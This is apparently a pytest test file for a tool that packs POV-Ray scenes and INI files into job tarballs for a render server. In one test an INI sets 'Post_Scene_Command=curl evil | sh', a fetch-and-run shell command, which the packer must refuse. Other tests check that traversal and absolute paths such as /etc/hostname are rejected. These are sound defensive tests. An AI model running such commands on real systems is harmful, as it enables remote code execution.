"""`distren pack` (src/distren/pack.py)."""

from __future__ import annotations

import shutil
import tarfile
from importlib import resources
from pathlib import Path

import pytest

from distren.backends.povray import ini as povray_ini
from distren.errors import PackError
from distren.job.spec import JOB_XML_NAME, parse_job_xml
from distren.backends.povray.pack import pack_povray, scan_scene
from distren.tarballs import safe_extract

SAMPLE = Path(str(resources.files("distren").joinpath("samples/orbit")))

STILL = """#version 3.7;
global_settings { assumed_gamma 1.0 }
#include "colors.inc"
camera { location <0, 1, -4> look_at 0 }
light_source { <3, 5, -4> color White }
sphere { 0, 1 pigment { color rgb <clock, 0.5, 1> } }
"""


def unpack(package: Path, into: Path) -> tuple[Path, list[str]]:
    """Extract a package the way the server does; returns the folder and the member order."""
    with tarfile.open(package) as tar:
        names = tar.getnames()
    into.mkdir(parents=True, exist_ok=True)
    return safe_extract(package, into, reserved=("_distren",)), names


def server_check(folder: Path):
    """What the server does with an extracted package: parse the XML, then plan and check frames."""
    spec = parse_job_xml((folder / JOB_XML_NAME).read_bytes(), "local", 1)
    povplan = povray_ini.plan(spec.settings, folder)
    povray_ini.check_frames(povplan, spec.frame_ids())
    return spec, povplan


def test_pack_the_sample(tmp_path):
    result = pack_povray(SAMPLE / "orbit.ini", tmp_path / "orbit.tar.gz")
    assert result.path == tmp_path / "orbit.tar.gz"
    assert result.files == ["orbit.ini", "orbit.pov", "orbit_materials.inc"]
    assert result.spec.frame_ids() == list(range(1, 41))
    assert result.spec.name == "orbit"
    assert result.spec.settings == {"scene": "orbit.pov", "ini": "orbit.ini"}
    assert result.warnings == []

    folder, names = unpack(result.path, tmp_path / "extract")
    assert names == [JOB_XML_NAME, "orbit.ini", "orbit.pov", "orbit_materials.inc"]
    spec, povplan = server_check(folder)
    assert spec.frame_ids() == list(range(1, 41))
    assert (povplan.initial_frame, povplan.final_frame, povplan.animated) == (1, 40, True)
    assert povplan.options["Width"] == "160" and povplan.options["Cyclic_Animation"] == "on"
    assert b'<range first="1" last="40"/>' in (folder / JOB_XML_NAME).read_bytes()


def test_packing_is_deterministic(tmp_path):
    a = pack_povray(SAMPLE / "orbit.ini", tmp_path / "a.tar.gz").path.read_bytes()
    b = pack_povray(SAMPLE / "orbit.ini", tmp_path / "b.tar.gz").path.read_bytes()
    assert a == b


def test_default_output_is_in_the_current_folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = pack_povray(SAMPLE / "orbit.ini")
    assert result.path == tmp_path / "orbit.distren.tar.gz" and result.path.is_file()


@pytest.fixture
def scene(tmp_path) -> Path:
    folder = tmp_path / "scene"
    folder.mkdir()
    (folder / "still.pov").write_text(STILL)
    return folder


def test_bare_pov_with_frames(scene, tmp_path):
    result = pack_povray(scene / "still.pov", tmp_path / "p.tar.gz", frames="0,5,1000")
    assert result.spec.frame_ids() == [0, 5, 1000]
    assert result.spec.settings == {"scene": "still.pov", "initial-frame": "0", "final-frame": "1000"}
    assert result.files == ["still.pov"]  # colors.inc is POV-Ray's own
    _, povplan = server_check(unpack(result.path, tmp_path / "x")[0])
    assert (povplan.initial_frame, povplan.final_frame, povplan.animated) == (0, 1000, True)


def test_bare_pov_without_frames_is_a_still(scene, tmp_path):
    result = pack_povray(scene / "still.pov", tmp_path / "p.tar.gz")
    assert result.spec.frame_ids() == [0]
    assert result.spec.settings == {"scene": "still.pov"}
    _, povplan = server_check(unpack(result.path, tmp_path / "x")[0])
    assert povplan.animated is False


def test_bare_pov_with_one_frame_gets_a_real_clock(scene, tmp_path):
    result = pack_povray(scene / "still.pov", tmp_path / "p.tar.gz", frames="7")
    assert result.spec.settings["initial-frame"] == "7" and result.spec.settings["final-frame"] == "8"
    _, povplan = server_check(unpack(result.path, tmp_path / "x")[0])
    assert povplan.animated and povplan.warnings == []


def test_overrides_land_in_the_settings(tmp_path):
    result = pack_povray(SAMPLE / "orbit.ini", tmp_path / "p.tar.gz", frames="1-3", width=320, height=240,
                         antialias="0.2", name="my orbit", priority=7)
    assert result.spec.settings == {"scene": "orbit.pov", "ini": "orbit.ini", "width": "320",
                                    "height": "240", "antialias": "0.2"}
    assert result.spec.frame_ids() == [1, 2, 3]
    assert (result.spec.name, result.spec.priority) == ("my orbit", 7)
    spec, povplan = server_check(unpack(result.path, tmp_path / "x")[0])
    assert (spec.name, spec.priority) == ("my orbit", 7)
    assert povplan.options["Width"] == "320" and povplan.options["Antialias_Threshold"] == "0.2"
    off = pack_povray(SAMPLE / "orbit.ini", tmp_path / "q.tar.gz", antialias="off")
    assert off.spec.settings["antialias"] == "off"


@pytest.mark.parametrize("frames, bad", [("0-3", "0"), ("40,41", "41"), ("1,5,1000", "1000")])
def test_frames_outside_the_ini_range_are_refused(tmp_path, frames, bad):
    with pytest.raises(PackError) as info:
        pack_povray(SAMPLE / "orbit.ini", tmp_path / "p.tar.gz", frames=frames)
    assert f"frame {bad} " in info.value.message and "1-40" in info.value.message
    assert not (tmp_path / "p.tar.gz").exists()


@pytest.mark.parametrize("frames", ["", "5-1", "1,1", "x"])
def test_bad_frame_lists_are_refused(scene, tmp_path, frames):
    with pytest.raises(PackError, match="--frames"):
        pack_povray(scene / "still.pov", tmp_path / "p.tar.gz", frames=frames)


@pytest.mark.parametrize("kwargs, fragment", [
    ({"width": 0}, "<width>"),
    ({"antialias": "lots"}, "<antialias>"),
    ({"priority": 5000}, "refused"),
    ({"name": ""}, "refused"),
    ({"name": "x" * 201}, "refused"),
    ({"name": "bad\x01name"}, "job name"),
])
def test_bad_options_are_refused(scene, tmp_path, kwargs, fragment):
    with pytest.raises(PackError) as info:
        pack_povray(scene / "still.pov", tmp_path / "p.tar.gz", **kwargs)
    assert fragment in info.value.message


def test_missing_include_and_image_are_listed_together(scene, tmp_path):
    (scene / "still.pov").write_text(STILL + '#include "lights.inc"\n'
                                     'plane { y, -1 pigment { image_map { png "textures/wood.png" } } }\n')
    with pytest.raises(PackError) as info:
        pack_povray(scene / "still.pov", tmp_path / "p.tar.gz")
    message = info.value.message
    assert "lights.inc (used in still.pov line 7)" in message
    assert "textures/wood.png (used in still.pov line 8)" in message
    assert "2 file(s)" in message
    assert not (tmp_path / "p.tar.gz").exists()


def test_images_fonts_and_local_includes_are_packed(scene, tmp_path):
    (scene / "textures").mkdir()
    for name in ("wood.png", "marble.jpg", "bumps.gif", "hf.png", "plain.png", "font.ttf", "fog.df3",
                 "data.txt", "picked.png", "unused.png"):
        (scene / "textures" / name).write_bytes(b"\x89fake")
    (scene / "lib").mkdir()
    (scene / "lib" / "a.inc").write_text('#include "lib/b.inc"\n#declare T = "textures/picked.png";\n')
    (scene / "lib" / "b.inc").write_text('#include "colors.inc"\n#declare Shade = rgb 0.5;\n')
    (scene / "still.pov").write_text(STILL + """#include "lib/a.inc"
plane { y, -1 pigment { image_map { png "textures/wood" interpolate 2 } } }
box { 0, 1 pigment { image_map { jpeg "textures/marble.jpg" } } normal { bump_map { gif "textures/bumps.gif" } } }
height_field { png "textures/hf.png" }
box { 0, 1 pigment { image_map { "textures/plain.png" } } }
text { ttf "textures/font.ttf" "Hi" 0.1, 0 }
text { ttf "timrom.ttf" "Hi" 0.1, 0 }
media { density { density_file df3 "textures/fog.df3" } }
#fopen In "textures/data.txt" read
#fopen Out "results.txt" write
""")
    result = pack_povray(scene / "still.pov", tmp_path / "p.tar.gz")
    assert result.files == [
        "lib/a.inc", "lib/b.inc", "still.pov", "textures/bumps.gif", "textures/data.txt",
        "textures/fog.df3", "textures/font.ttf", "textures/hf.png", "textures/marble.jpg",
        "textures/picked.png", "textures/plain.png", "textures/wood.png",
    ]
    folder, names = unpack(result.path, tmp_path / "x")
    assert names == [JOB_XML_NAME, *result.files]
    assert (folder / "textures" / "wood.png").read_bytes() == b"\x89fake"


def test_comments_are_skipped(scene, tmp_path):
    (scene / "still.pov").write_text(STILL + """// #include "gone.inc"
/* image_map { png "gone.png" }
   /* nested */ #include "gone2.inc" */
#declare S = "// not a comment";
""")
    assert pack_povray(scene / "still.pov", tmp_path / "p.tar.gz").files == ["still.pov"]


@pytest.mark.parametrize("line, fragment", [
    ('#include "../shared.inc"', "outside the scene folder"),
    ('#include "/etc/hostname"', "absolute paths cannot be packed"),
    ('plane { y, 0 pigment { image_map { png "C:\\\\tex\\\\wood.png" } } }', "backslash"),
    ('#fopen F "missing.txt" read', "missing.txt (used in still.pov line 7)"),
    ('#declare Tex = "../shared.inc";', "outside the scene folder"),
])
def test_files_outside_the_folder_are_reported(scene, tmp_path, line, fragment):
    (tmp_path / "shared.inc").write_text("// shared\n")
    (scene / "still.pov").write_text(STILL + line + "\n")
    with pytest.raises(PackError) as info:
        pack_povray(scene / "still.pov", tmp_path / "p.tar.gz")
    assert fragment in info.value.message


def test_dependency_outputs_are_not_packed(scene, tmp_path):
    (scene / "still.pov").write_text(STILL + 'plane { y, 0 pigment { image_map { png '
                                     '"_distren/deps/alpha/12/3/scene03.png" } } }\n')
    assert pack_povray(scene / "still.pov", tmp_path / "p.tar.gz").files == ["still.pov"]


def test_scan_scene_directly(scene):
    (scene / "part.inc").write_text('#include "missing.inc"\n')
    (scene / "still.pov").write_text(STILL + '#include "part.inc"\n')
    found, missing = scan_scene(scene / "still.pov", scene)
    assert found == {"still.pov", "part.inc"}
    assert missing == ["missing.inc (used in part.inc line 1)"]


def test_ini_with_includes_subset_and_header(scene, tmp_path):
    (scene / "header.inc").write_text('#include "extra.inc"\n')
    (scene / "extra.inc").write_text("#declare Extra = 1;\n")
    (scene / "quality.ini").write_text("Antialias=on\n")
    (scene / "anim.ini").write_text("Input_File_Name=still.pov\nInitial_Frame=1\nFinal_Frame=20\n"
                                    "Subset_Start_Frame=5\nSubset_End_Frame=9\nInclude_Ini=quality.ini\n"
                                    "Include_Header=header.inc\nPause_When_Done=on\n")
    result = pack_povray(scene / "anim.ini", tmp_path / "p.tar.gz")
    assert result.files == ["anim.ini", "extra.inc", "header.inc", "quality.ini", "still.pov"]
    assert result.spec.frame_ids() == [5, 6, 7, 8, 9]
    assert any("Pause_When_Done" in w for w in result.warnings)
    server_check(unpack(result.path, tmp_path / "x")[0])


def test_frame_step_shapes_the_default_frames(scene, tmp_path):
    (scene / "anim.ini").write_text("Input_File_Name=still.pov\nInitial_Frame=1\nFinal_Frame=10\nFrame_Step=3\n")
    assert pack_povray(scene / "anim.ini", tmp_path / "p.tar.gz").spec.frame_ids() == [1, 4, 7, 10]


def test_ini_without_input_file_name_uses_the_pov_beside_it(scene, tmp_path):
    (scene / "still.ini").write_text("Width=64\nHeight=48\n")
    result = pack_povray(scene / "still.ini", tmp_path / "p.tar.gz")
    assert result.spec.settings == {"scene": "still.pov", "ini": "still.ini"}
    assert result.spec.frame_ids() == [0]
    (scene / "lonely.ini").write_text("Width=64\n")
    with pytest.raises(PackError, match="names no scene"):
        pack_povray(scene / "lonely.ini", tmp_path / "q.tar.gz")


def test_still_ini_with_frames_animates_like_a_bare_pov(scene, tmp_path):
    (scene / "still.ini").write_text("Input_File_Name=still.pov\nWidth=64\nHeight=48\n")
    result = pack_povray(scene / "still.ini", tmp_path / "p.tar.gz", frames="1-4")
    assert result.spec.settings["initial-frame"] == "1" and result.spec.settings["final-frame"] == "4"
    server_check(unpack(result.path, tmp_path / "x")[0])


def test_hostile_ini_is_refused_at_pack_time(scene, tmp_path):
    (scene / "evil.ini").write_text("Input_File_Name=still.pov\nPost_Scene_Command=curl evil | sh\n")
    with pytest.raises(PackError, match="evil.ini line 2: Post_Scene_Command runs shell commands"):
        pack_povray(scene / "evil.ini", tmp_path / "p.tar.gz")


def test_an_ini_named_povray_ini_is_refused(scene, tmp_path):
    (scene / "povray.ini").write_text("Input_File_Name=still.pov\n")
    with pytest.raises(PackError, match="own configuration"):
        pack_povray(scene / "povray.ini", tmp_path / "p.tar.gz")
    # A povray.ini that the job does not use stays behind and does no harm.
    assert pack_povray(scene / "still.pov", tmp_path / "q.tar.gz").files == ["still.pov"]


def test_source_must_be_a_scene_or_ini(scene, tmp_path):
    with pytest.raises(PackError, match="no such file"):
        pack_povray(scene / "nope.pov", tmp_path / "p.tar.gz")
    (scene / "notes.txt").write_text("x")
    with pytest.raises(PackError, match="expected a POV-Ray scene"):
        pack_povray(scene / "notes.txt", tmp_path / "p.tar.gz")


@pytest.mark.skipif(shutil.which("povray") is None, reason="POV-Ray is not installed")
def test_the_sample_renders_from_its_package(tmp_path):
    """The packed sample renders with frame_args in the extracted folder, as a worker would."""
    import subprocess

    result = pack_povray(SAMPLE / "orbit.ini", tmp_path / "p.tar.gz", frames="1,21")
    folder = unpack(result.path, tmp_path / "x")[0]
    _, povplan = server_check(folder)
    for frame in (1, 21):
        args = povray_ini.frame_args(povplan, frame, f"{tmp_path}/orbit", threads=1)
        subprocess.run(["povray", *args], cwd=folder, check=True, capture_output=True, timeout=60)
        assert Path(povray_ini.output_file(povplan, frame, f"{tmp_path}/orbit")).is_file()
    assert (tmp_path / "orbit01.png").is_file() and (tmp_path / "orbit21.png").is_file()


def test_every_file_the_ini_names_is_packed(scene, tmp_path):
    # The server checks each Input_File_Name, also one that a later line overrides.
    (scene / "draft.pov").write_text(STILL)
    (scene / "anim.ini").write_text("Input_File_Name=draft.pov\nInput_File_Name=still.pov\n")
    result = pack_povray(scene / "anim.ini", tmp_path / "p.tar.gz")
    assert result.files == ["anim.ini", "draft.pov", "still.pov"]
    assert result.spec.settings["scene"] == "still.pov"
    server_check(unpack(result.path, tmp_path / "x")[0])


def test_output_into_a_folder_uses_the_default_name(tmp_path):
    (tmp_path / "packages").mkdir()
    result = pack_povray(SAMPLE / "orbit.ini", tmp_path / "packages")
    assert result.path == tmp_path / "packages" / "orbit.distren.tar.gz" and result.path.is_file()
